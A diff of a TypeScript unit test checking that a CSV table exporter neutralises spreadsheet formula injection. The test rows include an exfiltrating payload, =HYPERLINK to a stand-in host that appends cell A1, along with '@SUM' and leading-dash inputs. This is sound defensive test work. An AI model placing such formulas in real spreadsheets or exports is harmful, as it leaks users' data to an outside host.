@@ -1,19 +1,18 @@
 import assert from 'node:assert/strict';
 import { describe, it } from 'node:test';
-import { parseCsv } from '../../shared/csv.ts';
-import { date, text } from '../../shared/xlsx.ts';
-import { moneyCell, tableCsv } from './report-exports.ts';
+import { parseCsv } from './csv.ts';
+import { tableCsv } from './table-csv.ts';
+import { amount, date, text } from './xlsx.ts';
 
 describe('tableCsv: formula injection', () => {
   it("prefixes text cells that start like a formula with ', and writes amounts and dates as they are", () => {
     const csv = tableCsv({
-      name: 'Aging',
       header: ['customer', 'total', 'asOf'],
       rows: [
-        [text('=HYPERLINK("http://x.example/?"&A1,"Klick")'), moneyCell('-12.50', 'EUR'), date('2026-03-31')],
-        [text('@SUM(1+1)'), moneyCell('-5', 'JPY'), null],
-        [text('-Rabatt GmbH'), moneyCell('1200.000', 'KWD'), null],
-        [text('Müller Bau GmbH'), moneyCell('0.00', 'EUR'), null],
+        [text('=HYPERLINK("http://x.example/?"&A1,"Klick")'), amount('-12.50', 2), date('2026-03-31')],
+        [text('@SUM(1+1)'), amount('-5', 0), null],
+        [text('-Rabatt GmbH'), amount('1200.000', 3), null],
+        [text('Müller Bau GmbH'), amount('0.00', 2), null],
       ],
     });
     assert.deepEqual(
